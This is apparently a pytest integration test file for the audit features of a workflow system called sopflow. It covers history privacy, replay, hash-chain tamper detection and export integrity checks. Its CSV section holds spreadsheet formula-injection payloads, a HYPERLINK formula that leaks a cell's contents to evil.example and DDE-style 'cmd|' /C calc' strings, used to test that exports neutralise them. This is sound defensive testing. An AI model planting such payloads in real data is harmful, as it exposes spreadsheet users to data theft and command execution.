"""For auditors: history with proof of notice, replay as of any moment, chain verification
that catches hand edits of the database, and exports that can be checked on their own."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from sopflow.domain.chain import event_hash, link
from sopflow.errors import InvalidData, NotFound
from sopflow.services import Command, Services, VerifyReport, check_export
from sopflow.services.export_write import EXPORT_COLUMNS
from tests.integration import world as w
from tests.integration.conftest import Clock
from tests.integration.world import email

AUDITOR = email("eg_auditor")


@dataclass
class Log:
    """Two requests whose events interleave in the global chain:

    chain #  1-5   6-8   9    10
    request  A1-5  B1-3  A6   B4      (A: Egyptian demand, B: Tunisian contract)
    """

    services: Services
    a: str
    b: str
    start: datetime  # A was filed then; each step after it one hour later


@pytest.fixture
def log(seeded: Services, clock: Clock) -> Log:
    start = clock.now
    a = w.submit_eg(seeded).reference  # A1 create, A2 submit
    for s in w.eg_path_to("submit_advertisement"):  # A3 attest, A4 register, A5 approve
        clock.advance(hours=1)
        w.run(seeded, a, [s])
    clock.advance(hours=1)
    b = w.submit_tn(seeded).reference  # B1, B2
    w.run(seeded, b, w.tn_path_to("submit_opinion"))  # B3 accept_filing
    clock.advance(hours=1)
    w.run(seeded, a, [w.eg_step("submit_advertisement")])  # A6
    clock.advance(hours=1)
    w.run(seeded, b, [w.tn_step("submit_opinion")])  # B4
    return Log(seeded, a, b, start)


def test_a_requesters_history_carries_no_notices_and_shows_steps_as_the_page_does(
    log: Log,
) -> None:
    """The proof of notice (who was notified, at which address, the provider's ids and
    errors) is for officials and auditors: the requester's request page shows none, and
    neither does their history (web download, API, CLI alike), not even of their own
    notices. The steps themselves are as the page shows them: the requester's colleagues
    by e-mail, the officials by their office (``test_pages_privacy``)."""
    svc = log.services
    audited = svc.audit.history(log.a, AUDITOR)
    official = svc.audit.history(log.a, email("labour_attache"))

    mine = svc.audit.history(log.a, email("agent"))

    assert [e["notices"] for e in mine["events"]] == [[] for _ in mine["events"]]
    assert any(e["notices"] for e in audited["events"])
    assert official["events"] == audited["events"]
    assert svc.audit.history(log.a, None)["events"] == audited["events"]  # the operator
    who = ("notices", "actor", "actor_masked", "payload")
    strip = [{k: v for k, v in e.items() if k not in who} for e in audited["events"]]
    assert [{k: v for k, v in e.items() if k not in who} for e in mine["events"]] == strip
    assert [e["payload"] for e in mine["events"]] == [  # all but the salt (test_pages_privacy)
        {k: v for k, v in e["payload"].items() if k != "salt"} for e in audited["events"]
    ]
    shown = [(e["role"], e["actor_masked"], "@" in e["actor"]) for e in mine["events"]]
    assert shown == [("employer_agent", False, True), ("employer_agent", False, True),
                     ("labour_attache", True, False), ("registry_clerk", True, False),
                     ("employment_officer", True, False),
                     ("employer_agent", False, True)]  # fmt: skip
    text = json.dumps(mine)
    assert "@mom.example" not in text  # no official of the ministry, by any address
    notified = {n["recipient"] for e in audited["events"] for n in e["notices"]}
    assert email("advertisement_reviewer") in notified  # an official who did no step
    assert email("advertisement_reviewer") not in text
    assert "provider_message_id" not in text and "last_error" not in text


def sql(services: Services, statement: str, **params: Any) -> None:
    """A hand edit of the database, as someone with a SQL console would make it."""
    with services.ctx.store.engine.begin() as conn:
        conn.execute(sa.text(statement), params)


def request_id(services: Services, reference: str) -> int:
    with services.ctx.store.read() as r:
        row = r.request(reference)
    assert row is not None
    return int(row["id"])


def event(services: Services, reference: str, seq: int) -> dict[str, Any]:
    with services.ctx.store.read() as r:
        events = r.events_of(request_id(services, reference))
    return next(e for e in events if e["seq"] == seq)


def delete_event(services: Services, reference: str, seq: int) -> None:
    ev = event(services, reference, seq)
    sql(services, "DELETE FROM outbox WHERE event_id = :id", id=ev["id"])
    sql(services, "DELETE FROM events WHERE id = :id", id=ev["id"])


def point_request_at(services: Services, reference: str, seq: int) -> None:
    """Make the request row agree with a chain cut after ``seq`` (cover the tracks)."""
    last = event(services, reference, seq)
    sql(
        services,
        "UPDATE requests SET seq = :seq, last_hash = :h, state = :state WHERE reference = :ref",
        seq=seq,
        h=last["hash"],
        state=last["to_state"],
        ref=reference,
    )


# -- history -----------------------------------------------------------------------------
def test_history_lists_every_event_with_who_when_why_and_the_notices_it_caused(log: Log) -> None:
    svc = log.services
    svc.commands.act(log.a, "withdraw", email("agent"), Command(comment="Client cancelled"))

    history = svc.audit.history(log.a, AUDITOR)

    assert (history["reference"], history["sop_id"], history["sop_version"]) == (log.a, w.EG, 1)
    rows = [
        (e["seq"], e["trigger"], e["from_state"], e["to_state"], e["actor"], e["role"])
        for e in history["events"]
    ]
    assert rows == [
        (1, "create", None, "draft", email("agent"), "employer_agent"),
        (2, "submit", "draft", "attestation_review", email("agent"), "employer_agent"),
        (
            3,
            "attest_demand",
            "attestation_review",
            "demand_intake",
            email("labour_attache"),
            "labour_attache",
        ),
        (
            4,
            "register_demand",
            "demand_intake",
            "demand_under_review",
            email("registry_clerk"),
            "registry_clerk",
        ),
        (
            5,
            "approve_demand",
            "demand_under_review",
            "advertisement_drafting",
            email("employment_officer"),
            "employment_officer",
        ),
        (
            6,
            "submit_advertisement",
            "advertisement_drafting",
            "advertisement_review",
            email("agent"),
            "employer_agent",
        ),
        (7, "withdraw", "advertisement_review", "withdrawn", email("agent"), "employer_agent"),
    ]
    events = history["events"]
    assert [e["at"] for e in events[:4]] == [
        "2026-11-30T08:00:00+00:00",
        "2026-11-30T08:00:00+00:00",
        "2026-11-30T09:00:00+00:00",
        "2026-11-30T10:00:00+00:00",
    ]
    assert {e["sop_version"] for e in events} == {1}
    assert events[1]["legal_clause"] == "eg-law-14-2025"
    assert events[1]["legal_citation"] == "Labour Law No. 14 of 2025 (in force September 2025)"
    assert events[3]["payload"]["data"] == {"demand_register_number": "DR-2026-0042"}
    # the licence on record the step relied on (a rule of the SOP's), with the step
    assert events[3]["payload"]["grounds"] == [{
        "rule": "agency_licence_valid", "agency": w.AGENCY, "licence": "EG-LIC-0042",
        "status": "active", "expires": "2028-12-31"}]  # fmt: skip
    assert events[6]["comment"] == "Client cancelled"
    # proof of notice, per event
    assert sorted(n["recipient_kind"] for n in events[1]["notices"]) == [
        "field:contact_email",
        "requester",
        "role:labour_attache",
        "role:registry_clerk",
    ]
    assert {n["template"] for n in events[1]["notices"]} == {"request_submitted", "action_required"}
    assert events[0]["notices"] == []
    assert [(n["recipient"], n["status"]) for n in events[4]["notices"]] == [
        (email("agent"), "pending")
    ]
    withdrawn_to = {n["recipient"] for n in events[6]["notices"]}
    assert withdrawn_to == {email("agent"), email("advertisement_reviewer")}


def test_history_records_reasons_and_comments_of_refusals(seeded: Services) -> None:
    ref = w.submit_eg(seeded).reference
    seeded.commands.act(
        ref,
        "reject",
        email("labour_attache"),
        Command(comment="Employer unknown to the consulate", reason="employer_not_verified"),
    )

    last = seeded.audit.history(ref, AUDITOR)["events"][-1]
    assert (last["trigger"], last["reason"], last["comment"], last["legal_clause"]) == (
        "reject",
        "employer_not_verified",
        "Employer unknown to the consulate",
        "eg-mol-labour-offices",
    )


# -- replay ------------------------------------------------------------------------------
def test_replay_at_a_sequence_number_gives_the_request_as_it_was(log: Log) -> None:
    then = log.services.audit.replay(log.a, AUDITOR, at_seq=3)

    assert (then["state"], then["events_applied"]) == ("demand_intake", 3)
    assert "demand_register_number" not in then["data"]
    assert {d["kind"] for d in then["documents"]} == {
        "demand_letter",
        "power_of_attorney",
        "attestation",
    }


def test_replay_as_of_a_moment_gives_the_request_as_it_was(log: Log) -> None:
    start, svc = log.start, log.services

    just_before_registration = svc.audit.replay(
        log.a, AUDITOR, as_of=start + timedelta(hours=1, minutes=59)
    )
    at_registration = svc.audit.replay(log.a, AUDITOR, as_of=start + timedelta(hours=2))

    assert just_before_registration["state"] == "demand_intake"
    assert at_registration["state"] == "demand_under_review"
    assert at_registration["data"]["demand_register_number"] == "DR-2026-0042"
    assert svc.audit.replay(log.a, AUDITOR, as_of=start - timedelta(seconds=1))["state"] is None


def test_a_full_replay_reproduces_the_stored_request(log: Log) -> None:
    for ref in (log.a, log.b):
        replayed = log.services.audit.replay(ref, AUDITOR if ref == log.a else email("tn_auditor"))
        stored = log.services.queries.show(
            ref, email("director") if ref == log.a else email("head_of_service")
        )

        assert replayed["consistent"], replayed["differences"]
        assert (replayed["state"], replayed["data"], replayed["documents"]) == (
            stored["state"],
            stored["data"],
            stored["documents"],
        )
        assert replayed["deadline"] == stored["deadline"]


def test_replay_reports_a_stored_state_its_events_do_not_explain(log: Log) -> None:
    sql(
        log.services,
        "UPDATE events SET to_state = 'placed' WHERE request_id = :id AND seq = 6",
        id=request_id(log.services, log.a),
    )

    replayed = log.services.audit.replay(log.a, AUDITOR)

    assert not replayed["consistent"]
    assert any("seq 6" in d for d in replayed["differences"])


# -- verification ------------------------------------------------------------------------
def test_the_chains_are_intact_after_normal_use(log: Log) -> None:
    report = log.services.audit.verify()

    assert report.intact, report.breaks
    assert (report.events, report.requests) == (10, 2)
    for ref, events in ((log.a, 6), (log.b, 4)):
        one = log.services.audit.verify(ref)
        assert one.intact and (one.events, one.requests) == (events, 1)


def test_verifying_an_unknown_request_is_refused(log: Log) -> None:
    with pytest.raises(NotFound):
        log.services.audit.verify("EG-2026-999999")


def _edit_payload(log: Log) -> None:
    sql(
        log.services,
        "UPDATE events SET payload = :p WHERE request_id = :id AND seq = 1",
        p=json.dumps({"data": {**w.eg_data(), "worker_fee": w.money("900", "USD")}}),
        id=request_id(log.services, log.a),
    )


def _edit_actor(log: Log) -> None:
    sql(
        log.services,
        "UPDATE events SET actor_id = 'mallory@mom.example' WHERE request_id = :id AND seq = 3",
        id=request_id(log.services, log.a),
    )


def _edit_to_state(log: Log) -> None:
    sql(
        log.services,
        "UPDATE events SET to_state = 'rejected' WHERE request_id = :id AND seq = 4",
        id=request_id(log.services, log.a),
    )


def _delete_middle(log: Log) -> None:
    delete_event(log.services, log.a, 3)


def _delete_last(log: Log) -> None:
    delete_event(log.services, log.a, 6)


def _reorder(log: Log) -> None:
    rid = request_id(log.services, log.a)
    sql(log.services, "UPDATE events SET seq = -1 WHERE request_id = :id AND seq = 3", id=rid)
    sql(log.services, "UPDATE events SET seq = 3 WHERE request_id = :id AND seq = 4", id=rid)
    sql(log.services, "UPDATE events SET seq = 4 WHERE request_id = :id AND seq = -1", id=rid)


def _insert_forged(log: Log) -> None:
    """A well-formed seventh event for A, with a correct own hash linked to A's last event
    and to the current end of the global chain; only the recorded heads are left alone."""
    svc = log.services
    last = event(svc, log.a, 6)
    with svc.ctx.store.read() as r:
        head = r.chain_head()
    forged = {
        **{k: v for k, v in last.items() if k not in ("id", "hash", "chain_hash")},
        "seq": 7,
        "trigger": "withdraw",
        "from_state": "advertisement_review",
        "to_state": "withdrawn",
        "payload": {},
        "prev_hash": last["hash"],
        "chain_seq": head["chain_seq"] + 1,
        "chain_prev": head["chain_hash"],
    }
    forged["hash"] = event_hash({**forged, "reference": log.a})
    forged["chain_hash"] = link(forged["chain_prev"], forged["hash"])
    table = sa.Table("events", sa.MetaData(), autoload_with=svc.ctx.store.engine)
    with svc.ctx.store.engine.begin() as conn:
        conn.execute(sa.insert(table).values(**forged))


@pytest.mark.parametrize(
    ("tamper", "named"),
    [
        (_edit_payload, {1}),
        (_edit_actor, {3}),
        (_edit_to_state, {4}),
        (_delete_middle, {4}),  # the event after the gap
        (_reorder, {3, 4}),
        (_delete_last, {5}),  # the chain of A now ends at 5, its row says 6
        (_insert_forged, {7}),  # the chain of A now ends at 7, its row says 6
    ],
    ids=[
        "edit-payload",
        "edit-actor",
        "edit-to-state",
        "delete-middle",
        "reorder",
        "delete-last",
        "insert-forged",
    ],
)
def test_a_hand_edit_of_a_request_s_events_is_detected(
    log: Log, tamper: Callable[[Log], None], named: set[int]
) -> None:
    tamper(log)

    everything, one = log.services.audit.verify(), log.services.audit.verify(log.a)

    for report in (everything, one):
        assert not report.intact
        assert {(log.a, seq) for seq in named} <= _names(report), report.breaks
    assert one.breaks[0].reference == log.a
    # the other request is untouched and says so
    assert log.services.audit.verify(log.b).intact


def _names(report: VerifyReport) -> set[tuple[str | None, int | None]]:
    return {(b.reference, b.seq) for b in report.breaks}


def test_a_removed_last_event_with_the_request_row_adjusted_breaks_the_global_chain(
    log: Log,
) -> None:
    delete_event(log.services, log.a, 6)
    point_request_at(log.services, log.a, 5)

    report = log.services.audit.verify()

    assert not report.intact
    # the next event in the global chain (B4) no longer follows its predecessor
    assert (log.b, 4) in _names(report)


def test_a_removed_newest_event_with_the_request_row_adjusted_is_caught_by_the_head(
    log: Log,
) -> None:
    delete_event(log.services, log.b, 4)
    point_request_at(log.services, log.b, 3)

    report = log.services.audit.verify()

    assert not report.intact
    assert [b.code for b in report.breaks] == ["tail-missing"]


def test_truncating_the_newest_events_is_caught_by_the_head(log: Log) -> None:
    svc = log.services
    for ref, seq in ((log.b, 4), (log.a, 6), (log.b, 3)):
        delete_event(svc, ref, seq)
    point_request_at(svc, log.a, 5)
    point_request_at(svc, log.b, 2)

    report = svc.audit.verify()

    assert not report.intact
    assert "tail-missing" in {b.code for b in report.breaks}
    assert svc.audit.verify(log.a).intact  # each request alone looks complete: only the head


def test_a_request_deleted_with_all_its_events_breaks_the_global_chain(log: Log) -> None:
    svc = log.services
    rid = request_id(svc, log.a)
    for table in ("outbox", "documents", "events", "requests"):
        column = "id" if table == "requests" else "request_id"
        sql(svc, f"DELETE FROM {table} WHERE {column} = :id", id=rid)

    report = svc.audit.verify()

    assert not report.intact
    assert report.requests == 1
    assert (log.b, 1) in _names(report)  # B1 now opens the chain at #6


def test_a_request_row_set_to_another_state_is_caught(log: Log) -> None:
    svc = log.services
    sql(svc, "UPDATE requests SET state = 'placed', outcome = 'approved' WHERE reference = :r",
        r=log.a)  # fmt: skip

    whole, one = svc.audit.verify(), svc.audit.verify(log.a)

    for report in (whole, one):
        assert [b.code for b in report.breaks] == ["request-row-altered"]
        assert "its row says state 'placed'" in report.breaks[0].message
        assert report.breaks[0].reference == log.a


def test_an_edited_stored_sop_text_is_caught_and_never_run(log: Log) -> None:
    svc = log.services
    sql(svc, "UPDATE sop_versions SET text = replace(text, 'max: 5000', 'max: 6000') "
        "WHERE sop_id = :id", id=w.EG)  # fmt: skip
    svc.ctx.sops._catalogue = None  # a process started after the edit

    report = svc.audit.verify()
    catalogue = svc.ctx.sops.catalogue

    assert [b.code for b in report.breaks] == ["sop-altered"]
    assert f"the stored text of {w.EG} v1 no longer matches its hash" in report.breaks[0].message
    assert "while that file holds the original text" in report.breaks[0].message
    assert [(p.code, p.file) for p in catalogue.problems] == [
        ("sop-altered", f"database:sop_versions/{w.EG}/v1")
    ]  # not the file, which is intact
    # the shipped file holds the text the requests were pinned to: steps run under it
    pinned = svc.ctx.sops.pinned(w.EG, 1, event(svc, log.a, 1)["sop_hash"])
    assert "max: 5000" in pinned.text


# -- export ------------------------------------------------------------------------------
def _manifest(path: Path) -> dict[str, Any]:
    return json.loads(path.with_name(path.name + ".manifest.json").read_text("utf-8"))


def _rewrite_manifest(path: Path, **changes: Any) -> None:
    manifest_path = path.with_name(path.name + ".manifest.json")
    manifest_path.write_text(json.dumps({**_manifest(path), **changes}), "utf-8")


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_a_jsonl_export_carries_a_manifest_and_checks_intact(log: Log, tmp_path: Path) -> None:
    target = tmp_path / "events.jsonl"

    manifest = log.services.audit.export(target, "jsonl")

    assert manifest == _manifest(target)
    with log.services.ctx.store.read() as r:
        head = r.chain_head()
    assert manifest["events"] == 10 == len(target.read_text("utf-8").splitlines())
    assert manifest["database_chain_head"] == {"chain_seq": 10, "chain_hash": head["chain_hash"]}
    assert (manifest["last_chain_seq"], manifest["last_chain_hash"]) == (10, head["chain_hash"])
    assert manifest["file_sha256"] == _sha256(target)
    report = check_export(target)
    assert report.intact, report.breaks
    assert report.events == 10


def test_an_export_of_a_period_checks_intact(log: Log, tmp_path: Path) -> None:
    target = tmp_path / "events.jsonl"
    # from A3 (09:00) to before A6 (13:00): A3-A5 and B1-B3 (12:00)
    start, end = log.start + timedelta(hours=1), log.start + timedelta(hours=4, minutes=30)
    manifest = log.services.audit.export(target, "jsonl", start, end)

    assert manifest["events"] == 6
    assert (manifest["first_chain_seq"], manifest["last_chain_seq"]) == (3, 8)
    assert check_export(target).intact


def test_a_csv_export_is_checked_event_by_event(log: Log, tmp_path: Path) -> None:
    target = tmp_path / "events.csv"
    log.services.audit.export(target, "csv")

    intact = check_export(target)
    target.write_text(target.read_text("utf-8").replace(email("registry_clerk"), "mallory@x"),
                      "utf-8")  # fmt: skip
    _rewrite_manifest(target, file_sha256=_sha256(target))
    edited = check_export(target)

    assert intact.intact and (intact.events, intact.requests) == (10, 2)
    assert [(b.code, b.reference) for b in edited.breaks] == [("event-altered", log.a)]


def test_an_event_withheld_in_an_export_of_every_sop_is_detected(log: Log, tmp_path: Path) -> None:
    full, scoped = tmp_path / "full.jsonl", tmp_path / "scoped.jsonl"
    log.services.audit.export(full, "jsonl")
    log.services.audit.export(scoped, "jsonl", scope=frozenset({w.EG}))
    lines = full.read_text("utf-8").splitlines(keepends=True)
    withheld = scoped.read_text("utf-8").splitlines(keepends=True)[-1]  # B4, redacted
    full.write_text("".join([*lines[:-1], withheld]), "utf-8")
    _rewrite_manifest(full, file_sha256=_sha256(full))

    report = check_export(full)

    assert check_export(scoped).intact and check_export(scoped).requests == 1
    assert [b.code for b in report.breaks] == ["export-altered"]
    assert "withholds the content of 1 event(s); its manifest says 0" in report.breaks[0].message


def _edit_line(path: Path, number: int, change: Callable[[dict[str, Any]], None]) -> None:
    lines = path.read_text("utf-8").splitlines(keepends=True)
    record = json.loads(lines[number])
    change(record)
    lines[number] = json.dumps(record, ensure_ascii=False, sort_keys=True) + "\n"
    path.write_text("".join(lines), "utf-8")


def test_an_edited_export_line_is_detected(log: Log, tmp_path: Path) -> None:
    target = tmp_path / "events.jsonl"
    log.services.audit.export(target, "jsonl")

    _edit_line(target, 4, lambda r: r.update(actor_id="mallory@mom.example"))

    report = check_export(target)
    assert not report.intact
    assert "export-altered" in {b.code for b in report.breaks}


def test_an_edited_export_is_detected_even_with_a_forged_manifest(log: Log, tmp_path: Path) -> None:
    target = tmp_path / "events.jsonl"
    log.services.audit.export(target, "jsonl")

    _edit_line(target, 4, lambda r: r.update(actor_id="mallory@mom.example"))
    _rewrite_manifest(target, file_sha256=_sha256(target))

    report = check_export(target)
    assert not report.intact
    assert [(b.code, b.reference, b.seq) for b in report.breaks] == [("event-altered", log.a, 5)]


def test_a_line_removed_from_an_export_is_detected_even_with_a_forged_manifest(
    log: Log, tmp_path: Path
) -> None:
    target = tmp_path / "events.jsonl"
    log.services.audit.export(target, "jsonl")
    lines = target.read_text("utf-8").splitlines(keepends=True)
    target.write_text("".join(lines[:2] + lines[3:]), "utf-8")
    _rewrite_manifest(target, file_sha256=_sha256(target), events=9)

    report = check_export(target)

    assert not report.intact
    assert report.breaks[0].reference == log.a


@pytest.mark.parametrize(
    ("damage", "why"),
    [
        (b"garbage", "not JSON: Expecting value at column 1"),
        (b"[1, 2]", "not a JSON object"),
        (b"caf\xe9", "not UTF-8 text"),
        (
            b'{"reference": "EG-2026-000001"}',
            "no " + ", ".join(c for c in EXPORT_COLUMNS if c != "reference"),
        ),
    ],
    ids=["not-json", "not-an-object", "not-utf8", "a-field-missing"],
)
def test_a_damaged_export_line_is_reported_and_the_rest_still_checked(
    log: Log, tmp_path: Path, damage: bytes, why: str
) -> None:
    target = tmp_path / "events.jsonl"
    log.services.audit.export(target, "jsonl")
    lines = target.read_bytes().splitlines(keepends=True)
    target.write_bytes(b"".join([*lines[:2], damage + b"\n", *lines[3:]]))
    _rewrite_manifest(target, file_sha256=_sha256(target))

    report = check_export(target)

    assert (report.breaks[0].code, report.breaks[0].message) == (
        "export-malformed", f"events.jsonl line 3 is not an exported event ({why})")  # fmt: skip
    assert {"event-missing", "broken-link"} & {b.code for b in report.breaks[1:]}


def test_an_export_line_with_a_link_of_the_wrong_type_is_reported_not_counted(
    log: Log, tmp_path: Path
) -> None:
    target = tmp_path / "events.jsonl"
    manifest = log.services.audit.export(target, "jsonl")
    lines = target.read_bytes().splitlines(keepends=True)
    event = json.loads(lines[2])
    event["seq"] = str(event["seq"])
    target.write_bytes(b"".join([*lines[:2], json.dumps(event).encode() + b"\n", *lines[3:]]))
    _rewrite_manifest(target, file_sha256=_sha256(target))

    report = check_export(target)

    assert (report.breaks[0].code, report.breaks[0].message) == (
        "export-malformed", "events.jsonl line 3 is not an exported event (a value of the "
        f'wrong type: seq is "{event["seq"]}", not a whole number)')  # fmt: skip
    assert report.events == manifest["events"] - 1


def test_a_missing_export_or_a_broken_manifest_is_said_precisely(log: Log, tmp_path: Path) -> None:
    target = tmp_path / "events.jsonl"
    with pytest.raises(InvalidData) as missing:
        check_export(target)
    log.services.audit.export(target, "jsonl")
    (tmp_path / "events.jsonl.manifest.json").write_text('{"format": "jsonl"', encoding="utf-8")
    with pytest.raises(InvalidData) as broken:
        check_export(target)

    assert str(missing.value) == (f"invalid export: export: {target}: No such file or directory")
    assert str(broken.value).startswith("invalid export: manifest:events.jsonl.manifest.json: ")
    assert broken.value.errors[0].code == "malformed-json"
    log.services.audit.export(target, "jsonl")
    _rewrite_manifest(target, last_chain_seq="10")
    with pytest.raises(InvalidData) as mistyped:
        check_export(target)
    assert mistyped.value.errors[0].message == 'last_chain_seq is "10", not a whole number'


def test_a_csv_export_carries_a_manifest_and_an_edit_is_detected(log: Log, tmp_path: Path) -> None:
    target = tmp_path / "events.csv"
    manifest = log.services.audit.export(target, "csv")

    assert (manifest["format"], manifest["events"]) == ("csv", 10)
    assert len(target.read_text("utf-8").splitlines()) == 1 + 10
    assert check_export(target).intact

    target.write_text(target.read_text("utf-8").replace("register_demand", "approve_demand"))
    assert not check_export(target).intact


def test_an_export_format_other_than_csv_or_jsonl_is_refused(log: Log, tmp_path: Path) -> None:
    with pytest.raises(InvalidData):
        log.services.audit.export(tmp_path / "events.xml", "xml")


# -- spreadsheet formulas in a CSV export ------------------------------------------------
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rewrite_last_event(services: Services, **changes: Any) -> None:
    """Change the newest event of the whole log and rehash it (and its global link), as if
    sopflow had written it so: the values the SOP refuses (a reason code it does not know)
    still have to survive an export that is checked offline."""
    with services.ctx.store.read() as r:
        head = r.chain_head()
        row = r.one("SELECT * FROM events WHERE chain_seq = :s", {"s": head["chain_seq"]})
        assert row is not None
        reference = r.request_references()[row["request_id"]]
    fields = {**row, **changes, "reference": reference}
    fields["payload"] = row["payload"]
    own = event_hash(fields)
    chained = link(row["chain_prev"], own)
    sql(services, "UPDATE events SET " + ", ".join(f"{c} = :{c}" for c in changes)
        + ", hash = :h, chain_hash = :ch WHERE id = :id", **changes, h=own, ch=chained,
        id=row["id"])  # fmt: skip
    sql(services, "UPDATE chain_head SET chain_hash = :ch WHERE id = 1", ch=chained)
    sql(services, "UPDATE requests SET last_hash = :h WHERE id = :id", h=own,
        id=row["request_id"])  # fmt: skip


def test_a_csv_export_neutralises_formulas_and_still_checks_intact(
    seeded: Services, tmp_path: Path
) -> None:
    """An employer's comment or data, or a reason, typed as a formula is text in the
    auditor's spreadsheet (a quote in front), and ``check-export`` reads the very value
    back: the events' hashes still match."""
    svc = seeded
    ref = w.submit_eg(svc, employer_name="+cmd|' /C calc'!A0").reference
    svc.commands.act(ref, "withdraw", email("agent"), Command(comment=HOSTILE))
    _rewrite_last_event(svc, reason="@SUM(1+1)*cmd|' /C calc'!A0", acting_for="'quoted")
    target = tmp_path / "events.csv"

    manifest = svc.audit.export(target, "csv")

    assert manifest["csv_cells"] == "quote-prefixed"
    report = check_export(target)
    assert report.intact, report.breaks
    rows = list(csv.reader(io.StringIO(target.read_text("utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    last = dict(zip(rows[0], rows[-1], strict=True))
    assert last["comment"] == "'" + HOSTILE
    assert last["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert last["acting_for"] == "''quoted"  # a quote of its own is doubled, so it is undone
    payloads = [json.loads(row[rows[0].index("payload")]) for row in rows[1:]]
    # inside the JSON of the payload: its cell starts with '{', no formula
    assert "+cmd|' /C calc'!A0" in [p.get("data", {}).get("employer_name") for p in payloads]
    # the JSONL export keeps every value as it is
    jsonl = tmp_path / "events.jsonl"
    svc.audit.export(jsonl, "jsonl")
    newest = json.loads(jsonl.read_text("utf-8").splitlines()[-1])
    assert (newest["comment"], newest["reason"]) == (HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0")
    assert check_export(jsonl).intact


def test_a_neutralised_cell_edited_in_a_csv_export_is_detected(
    seeded: Services, tmp_path: Path
) -> None:
    ref = w.submit_eg(seeded).reference
    seeded.commands.act(ref, "withdraw", email("agent"), Command(comment=HOSTILE))
    target = tmp_path / "events.csv"
    seeded.audit.export(target, "csv")
    # the quote taken away (the cell runs again as a formula): the content is not the event's
    target.write_text(target.read_text("utf-8").replace("'=HYPERLINK", "=HYPERLINK"), "utf-8")
    _rewrite_manifest(target, file_sha256=_sha256(target))

    report = check_export(target)
    assert (report.breaks[0].code, report.breaks[0].message) == (
        "export-malformed", "events.csv line 4 is not an exported event (a cell starts with "
        "'=' without the quote an export puts before it, so a spreadsheet would run it as a "
        "formula)")  # fmt: skip
    # nor does it put a quote before a value that needs none: each cell is read one way
    seeded.audit.export(target, "csv")
    target.write_text(target.read_text("utf-8").replace(email("agent"), "'" + email("agent")),
                      "utf-8")  # fmt: skip
    _rewrite_manifest(target, file_sha256=_sha256(target))
    report = check_export(target)
    assert (report.breaks[0].code, report.breaks[0].message) == (
        "export-malformed", "events.csv line 2 is not an exported event (a cell starts with "
        "a quote that an export does not write (only before = + - @, a tab, a carriage "
        "return or a quote))")  # fmt: skip


def test_a_csv_export_written_before_cells_were_neutralised_still_checks(
    seeded: Services, tmp_path: Path
) -> None:
    """An older export (its manifest names no ``csv_cells``) is read as it was written: a
    comment that starts with a quote is not taken for a neutralised cell."""
    ref = w.submit_eg(seeded).reference
    seeded.commands.act(ref, "withdraw", email("agent"), Command(comment="'tis withdrawn"))
    target = tmp_path / "events.csv"
    seeded.audit.export(target, "csv")
    old = target.read_text("utf-8").replace("''tis withdrawn", "'tis withdrawn")
    target.write_text(old, "utf-8")
    manifest = _manifest(target)
    del manifest["csv_cells"]
    target.with_name(target.name + ".manifest.json").write_text(
        json.dumps({**manifest, "file_sha256": _sha256(target)}), "utf-8"
    )

    assert check_export(target).intact
    _rewrite_manifest(target, csv_cells="base64")
    with pytest.raises(InvalidData) as unknown:
        check_export(target)
    assert unknown.value.errors[0].code == "not-in-enum"
